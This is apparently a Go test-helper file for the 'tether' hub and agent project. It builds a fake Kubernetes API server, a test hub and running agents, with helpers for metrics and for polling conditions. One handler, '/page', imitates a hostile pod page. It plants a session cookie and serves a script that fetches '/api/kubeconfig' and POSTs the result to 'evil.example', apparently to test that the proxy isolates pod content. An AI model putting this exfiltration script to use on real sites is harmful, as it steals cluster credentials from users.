package server

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tetherhq/tether/internal/hub"
	"github.com/tetherhq/tether/internal/inventory/store"
	"github.com/tetherhq/tether/internal/testutil/files"

	"github.com/prometheus/client_golang/prometheus"
	"go.uber.org/goleak"

	"github.com/tetherhq/tether/internal/agent"
	"github.com/tetherhq/tether/internal/fleet"
	"github.com/tetherhq/tether/internal/listfile"
	"github.com/tetherhq/tether/internal/pki"
	"github.com/tetherhq/tether/internal/testutil/syncbuf"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

// fakeCluster is an HTTPS server standing in for an API server: what the
// hub's probes need, with a certificate for kubernetes.default.svc from its
// own CA, and a service account directory as a pod would have it.
type fakeCluster struct {
	ca    *pki.CA
	srv   *httptest.Server
	saDir string
	cert  atomic.Pointer[tls.Certificate] // what it serves; rotateCA swaps it

	mu     sync.Mutex
	tokens []string       // the bearer tokens of requests, in order
	paths  map[string]int // requests per path
	conns  map[string]int // requests per path and client address (connection)
	gate   chan struct{}  // /stream waits on it between its events

	// readyzDelay is how long /readyz waits before it answers (or until
	// its request is gone), and readyzStatus, when not 0, the status it
	// answers with.
	readyzDelay  atomic.Int64 // a time.Duration
	readyzStatus atomic.Int32
	// reviewsFail makes the access reviews answerAccessReviews answers fail.
	reviewsFail atomic.Bool
	// bigSent counts the bytes /big has written; watching, the /watch and
	// /partial answers under way.
	bigSent  atomic.Int64
	watching atomic.Int32
}

func (fc *fakeCluster) count(path string) int {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	return fc.paths[path]
}

// connsFor counts the requests for path by the connection they came on.
func (fc *fakeCluster) connsFor(path string) map[string]int {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	conns := map[string]int{}
	for k, n := range fc.conns {
		if strings.HasPrefix(k, path+" from ") {
			conns[k] = n
		}
	}
	return conns
}

// release lets /stream send its next event.
func (fc *fakeCluster) release() { fc.gate <- struct{}{} }

// newClusterCA makes a cluster's CA, and the API server's certificate from
// it for kubernetes.default.svc and 127.0.0.1.
func newClusterCA(t *testing.T, name string) (*pki.CA, tls.Certificate) {
	t.Helper()
	ca, err := pki.NewCA(name, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.IssueTLS(pki.Leaf{CommonName: "kube-apiserver", Hosts: []string{"kubernetes.default.svc", "127.0.0.1"}})
	if err != nil {
		t.Fatal(err)
	}
	return ca, cert
}

// partialLength is the Content-Length of /partial, which sends half.
const partialLength = 64 << 10

func newFakeCluster(t *testing.T) *fakeCluster {
	t.Helper()
	ca, cert := newClusterCA(t, "test cluster CA")
	fc := &fakeCluster{ca: ca, saDir: t.TempDir(), paths: map[string]int{}, conns: map[string]int{}, gate: make(chan struct{})}
	fc.cert.Store(&cert)
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		json.NewEncoder(w).Encode(map[string]any{"path": r.URL.RequestURI(), "header": r.Header, "host": r.Host})
	})
	// A page a pod serves, as a service proxy passes it on: what anyone
	// who may run a pod writes.
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		http.SetCookie(w, &http.Cookie{Name: "__Host-tether_session", Value: "planted", Path: "/", Secure: true})
		w.Header().Set("Clear-Site-Data", `"cookies"`)
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<script>fetch("/api/kubeconfig").then(r => r.text()).then(k => fetch("https://evil.example/", {method: "POST", body: k}))</script>`)
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		http.Redirect(w, r, "https://elsewhere.example.com/", http.StatusFound)
	})
	mux.HandleFunc("/refuse-upgrade", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		http.Error(w, "forbidden", http.StatusForbidden)
	})
	mux.HandleFunc("/echo-upgrade", func(w http.ResponseWriter, r *http.Request) {
		// Switches to a protocol that echoes each byte back, as exec and
		// port-forward switch to theirs.
		fc.note(r)
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "echo")
		w.WriteHeader(http.StatusSwitchingProtocols)
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		io.Copy(conn, brw)
	})
	// Switches protocols, sends a greeting, and then its connection is
	// reset: an API server (or kubelet) that failed mid-session.
	mux.HandleFunc("/reset-upgrade", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "echo")
		w.WriteHeader(http.StatusSwitchingProtocols)
		conn, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		brw.WriteString("hello")
		brw.Flush()
		brw.ReadByte() // what the client says first
		if tc, ok := conn.(*tls.Conn); ok {
			tc.NetConn().(*net.TCPConn).SetLinger(0)
		}
		conn.Close()
	})
	mux.HandleFunc("/stream", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		io.WriteString(w, "event 1\n")
		w.(http.Flusher).Flush()
		select {
		case <-fc.gate:
		case <-r.Context().Done():
			return
		}
		io.WriteString(w, "event 2\n")
	})
	// A watch: event 1, then nothing until the test says. With split, half
	// of event 2 comes first, and the test's release sends its rest and
	// event 3 in one write. Framed as the API server frames JSON or, with
	// protobuf, protobuf.
	mux.HandleFunc("/watch", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		fc.watching.Add(1)
		defer fc.watching.Add(-1)
		event := func(n int) []byte { return fmt.Appendf(nil, `{"type":"ADDED","n":%d}`+"\n", n) }
		if r.URL.Query().Has("protobuf") {
			w.Header().Set("Content-Type", "application/vnd.kubernetes.protobuf;stream=watch")
			event = func(n int) []byte { return append(binary.BigEndian.AppendUint32(nil, 3), 'e', 'v', byte('0'+n)) }
		} else {
			w.Header().Set("Content-Type", "application/json")
		}
		w.Write(event(1))
		if r.URL.Query().Has("split") {
			w.Write(event(2)[:5])
		}
		w.(http.Flusher).Flush()
		if r.URL.Query().Has("split") {
			select {
			case <-fc.gate:
			case <-r.Context().Done():
				return
			}
			w.Write(append(event(2)[5:], event(3)...))
			w.(http.Flusher).Flush()
		}
		<-r.Context().Done()
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		chunk := make([]byte, 32<<10)
		for {
			n, err := w.Write(chunk)
			fc.bigSent.Add(int64(n))
			if err != nil {
				return
			}
		}
	})
	// An answer of known length, half of it sent, the rest never.
	mux.HandleFunc("/partial", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		fc.watching.Add(1)
		defer fc.watching.Add(-1)
		w.Header().Set("Content-Length", strconv.Itoa(partialLength))
		w.Write(make([]byte, partialLength/2))
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	})
	mux.HandleFunc("/large", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		w.Write(make([]byte, 256<<10))
	})
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		if d := time.Duration(fc.readyzDelay.Load()); d > 0 {
			select {
			case <-time.After(d):
			case <-r.Context().Done():
				return
			}
		}
		if code := int(fc.readyzStatus.Load()); code != 0 {
			http.Error(w, "readyz check failed", code)
			return
		}
		w.Write([]byte("ok"))
	})
	mux.HandleFunc("/version", func(w http.ResponseWriter, r *http.Request) {
		fc.note(r)
		w.Write([]byte(`{"major":"1","minor":"36","gitVersion":"v1.36.3-test"}`))
	})
	fc.srv = httptest.NewUnstartedServer(mux)
	fc.srv.TLS = &tls.Config{GetCertificate: func(*tls.ClientHelloInfo) (*tls.Certificate, error) { return fc.cert.Load(), nil }}
	fc.srv.StartTLS()
	// StartTLS adds httptest's own certificate, which a client that sends
	// no server name (one dialing an IP address) would get instead.
	fc.srv.TLS.Certificates = nil
	t.Cleanup(fc.srv.Close)
	fc.writeToken(t, "service-account-token-1")
	if err := os.WriteFile(filepath.Join(fc.saDir, "ca.crt"), ca.CertPEM, 0o600); err != nil {
		t.Fatal(err)
	}
	return fc
}

// rotateCA gives the cluster a new CA, as when its control plane's CA is
// replaced: the API server restarts with a certificate from the new CA,
// dropping every connection, and pods see the new ca.crt.
func (fc *fakeCluster) rotateCA(t *testing.T) {
	t.Helper()
	ca, cert := newClusterCA(t, "test cluster CA, rotated")
	fc.cert.Store(&cert)
	fc.srv.CloseClientConnections()
	files.Replace(t, filepath.Join(fc.saDir, "ca.crt"), string(ca.CertPEM))
}

func (fc *fakeCluster) note(r *http.Request) {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	fc.tokens = append(fc.tokens, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
	fc.paths[r.URL.Path]++
	fc.conns[r.URL.Path+" from "+r.RemoteAddr]++
}

func (fc *fakeCluster) lastToken() string {
	fc.mu.Lock()
	defer fc.mu.Unlock()
	if len(fc.tokens) == 0 {
		return ""
	}
	return fc.tokens[len(fc.tokens)-1]
}

// writeToken replaces the token file the way the kubelet does: a new file
// renamed into place.
func (fc *fakeCluster) writeToken(t *testing.T, token string) {
	t.Helper()
	files.Replace(t, filepath.Join(fc.saDir, "token"), token)
}

func (fc *fakeCluster) addr() string { return fc.srv.Listener.Addr().String() }

// testHub is a Hub behind an httptest server.
type testHub struct {
	*Hub
	inventory *store.Store // the registry's
	srv       *httptest.Server
	url       string
	logs      *syncbuf.Buffer
	reg       *prometheus.Registry
	agents    map[string]*runningAgent // those a helper started for the test
}

const testToken = "0123456789abcdef0123456789abcdef-agent-token"

// testAgents is an agents list with the clusters the tests use, all with
// testToken.
func testAgents(names ...string) *fleet.Agents {
	var list []fleet.Agent
	for _, n := range names {
		list = append(list, fleet.Agent{Name: n, TokenHashes: []listfile.Hash{listfile.HashToken(testToken)}, Groups: fleet.Groups{Everyone: true}})
	}
	return fleet.New(list)
}

func startHub(t *testing.T, cfg Config) *testHub {
	t.Helper()
	return startHubWith(t, cfg, nil)
}

// startTLSHub is startHub serving HTTPS with cert.
func startTLSHub(t *testing.T, cfg Config, cert tls.Certificate) *testHub {
	t.Helper()
	return startHubWith(t, cfg, &cert)
}

func startHubWith(t *testing.T, cfg Config, cert *tls.Certificate) *testHub {
	t.Helper()
	th := &testHub{logs: &syncbuf.Buffer{}, reg: prometheus.NewRegistry()}
	cfg.Logger = slogTo(th.logs)
	cfg.Registerer = th.reg
	if cfg.Heartbeat == 0 {
		cfg.Heartbeat = time.Second
	}
	if cfg.ProbeInterval == 0 {
		cfg.ProbeInterval = 200 * time.Millisecond
	}
	h, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	th.Hub = h
	th.inventory = h.registry.Inventory()
	th.srv = httptest.NewUnstartedServer(h.Handler())
	if cert != nil {
		th.srv.TLS = &tls.Config{Certificates: []tls.Certificate{*cert}}
		th.srv.StartTLS()
	} else {
		th.srv.Start()
	}
	th.url = th.srv.URL
	t.Cleanup(func() {
		th.srv.Config.Shutdown(context.Background())
		h.Close()
		th.srv.Close()
	})
	return th
}

func (th *testHub) counter(name string, labels ...string) float64 {
	switch name {
	case "takeovers":
		return th.value("tether_agent_takeovers_total")
	case "connects":
		return th.value("tether_agent_connects_total", labels...)
	case "caChanges":
		return th.value("tether_agent_ca_changes_total")
	}
	panic("unknown counter " + name)
}

// value returns the metric name's value in the hub's registry, for the
// series whose label values, in the order of their names, are labels: 0
// when there is none.
func (th *testHub) value(name string, labels ...string) float64 {
	families, err := th.reg.Gather()
	if err != nil {
		panic(err)
	}
	for _, f := range families {
		if f.GetName() != name {
			continue
		}
	series:
		for _, m := range f.GetMetric() {
			pairs := m.GetLabel()
			if len(pairs) != len(labels) {
				continue
			}
			for i, p := range pairs {
				if p.GetValue() != labels[i] {
					continue series
				}
			}
			switch {
			case m.Counter != nil:
				return m.GetCounter().GetValue()
			case m.Gauge != nil:
				return m.GetGauge().GetValue()
			case m.Histogram != nil:
				return float64(m.GetHistogram().GetSampleCount())
			}
		}
	}
	return 0
}

// connected returns the connection of cluster name's agent, or nil.
func (th *testHub) connected(name string) hub.Upstream { return th.registry.Reach(name) }

// streamsOpen is tether_streams_open.
func (th *testHub) streamsOpen() float64 { return th.value("tether_streams_open") }

func (th *testHub) Cluster(name string) (hub.ClusterStatus, bool) { return th.registry.Cluster(name) }
func (th *testHub) Clusters() []hub.ClusterStatus                 { return th.registry.Clusters() }
func (th *testHub) History(name string) []hub.StatusChange        { return th.registry.History(name) }

// runningAgent is an agent running in a goroutine the test owns.
type runningAgent struct {
	*agent.Agent
	logs   *syncbuf.Buffer
	cancel context.CancelFunc
	done   chan struct{} // closed when Run has returned
	err    error         // what Run returned; read after done
}

// startAgent runs an agent for the cluster fc, named name, against hubURL.
// Each mod may change its config before it starts.
func startAgent(t *testing.T, hubURL, name string, fc *fakeCluster, mods ...func(*agent.Config)) *runningAgent {
	t.Helper()
	return startAgentFor(t, hubURL, name, fc.saDir, fc.addr(), mods...)
}

// startAgentFor runs an agent named name against hubURL for the API server
// at apiAddr, with the service account directory saDir.
func startAgentFor(t *testing.T, hubURL, name, saDir, apiAddr string, mods ...func(*agent.Config)) *runningAgent {
	t.Helper()
	u, err := url.Parse(hubURL)
	if err != nil {
		t.Fatal(err)
	}
	ra := &runningAgent{logs: &syncbuf.Buffer{}, done: make(chan struct{})}
	cfg := agent.Config{
		Options: agent.Options{
			HubURL:            u,
			Name:              name,
			Token:             testToken,
			TokenReread:       time.Minute,
			ServiceAccountDir: saDir,
			APIServer:         apiAddr,
		},
		Logger:           slogTo(ra.logs),
		HandshakeTimeout: 2 * time.Second,
		// Reconnect at once unless a test records the waits.
		Sleep: func(ctx context.Context, d time.Duration) error { return ctx.Err() },
	}
	for _, m := range mods {
		m(&cfg)
	}
	a, err := agent.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ra.Agent = a
	ctx, cancel := context.WithCancel(context.Background())
	ra.cancel = cancel
	go func() {
		defer close(ra.done)
		ra.err = a.Run(ctx)
	}()
	t.Cleanup(func() { ra.stop(t) })
	return ra
}

// wait waits for Run to return by itself, and returns its error.
func (ra *runningAgent) wait(t *testing.T, within time.Duration) error {
	t.Helper()
	select {
	case <-ra.done:
		return ra.err
	case <-time.After(within):
		t.Fatalf("the agent did not exit within %s; its log:\n%s", within, ra.logs)
		return nil
	}
}

// stop cancels the agent and waits for Run to return.
func (ra *runningAgent) stop(t *testing.T) error {
	t.Helper()
	ra.cancel()
	return ra.wait(t, 10*time.Second)
}

// eventually polls cond every 10 ms until it holds or within passes.
func eventually(t *testing.T, within time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(within)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("after %s: %s", within, what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func statusOf(h *testHub, name string) string {
	st, ok := h.Cluster(name)
	if !ok {
		return fmt.Sprintf("no cluster %q", name)
	}
	return st.String()
}
